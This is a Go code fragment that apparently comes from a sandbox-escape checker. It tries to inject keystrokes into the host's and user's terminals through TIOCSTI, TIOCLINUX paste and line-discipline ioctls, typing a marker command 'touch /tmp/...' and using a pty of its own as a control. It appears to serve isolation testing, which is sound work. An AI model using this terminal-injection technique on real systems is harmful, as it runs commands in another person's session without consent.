package main

import (
	"fmt"
	"os"
	"os/signal"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Types commands into the terminal of who runs the checker, in his name.
func attack(where string) {
	signal.Ignore(unix.SIGHUP)
	if where == "host" {
		nested("nested")
	}
	paths := []string{"/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/ttyS0", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2", "/proc/1/fd/0"}
	if names, err := os.ReadDir("/dev/pts"); err == nil {
		for _, n := range names {
			paths = append(paths, "/dev/pts/"+n.Name())
		}
	}
	for _, path := range paths {
		fd, err := unix.Open(path, unix.O_RDWR|unix.O_NONBLOCK, 0)
		if err != nil {
			tried("open "+path, err)
			continue
		}
		types(path, fd)
		unix.Close(fd)
	}
	for fd := range 3 {
		types(fmt.Sprint("descriptor ", fd), fd)
	}
	// The control: a terminal of its own.
	if fd, err := unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_NOCTTY, 0); err == nil {
		unix.IoctlSetPointerInt(fd, unix.TIOCSPTLCK, 0)
		n, _ := unix.IoctlGetInt(fd, unix.TIOCGPTN)
		own, err := unix.Open(fmt.Sprint("/dev/pts/", n), unix.O_RDWR, 0)
		tried("open a terminal of its own", err)
		if err == nil {
			types("its own", own)
		}
	}
}

func types(what string, fd int) {
	tried("take "+what, unix.IoctlSetInt(fd, unix.TIOCSCTTY, 1))
	for _, c := range []byte("touch /tmp/" + evil + "\n") {
		for _, request := range []uintptr{unix.TIOCSTI, unix.TIOCSTI | 1<<32} {
			if _, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), request, uintptr(unsafe.Pointer(&c))); errno == 0 || c == 't' {
				tried("type into "+what, errno)
			}
		}
	}
	paste := [2]byte{3, 0} // TIOCL_PASTESEL
	call("paste into "+what, unix.SYS_IOCTL, uintptr(fd), unix.TIOCLINUX, uintptr(unsafe.Pointer(&paste)))
	call("line discipline of "+what, unix.SYS_IOCTL, uintptr(fd), unix.TIOCSETD, uintptr(unsafe.Pointer(&[1]int32{21})))
}
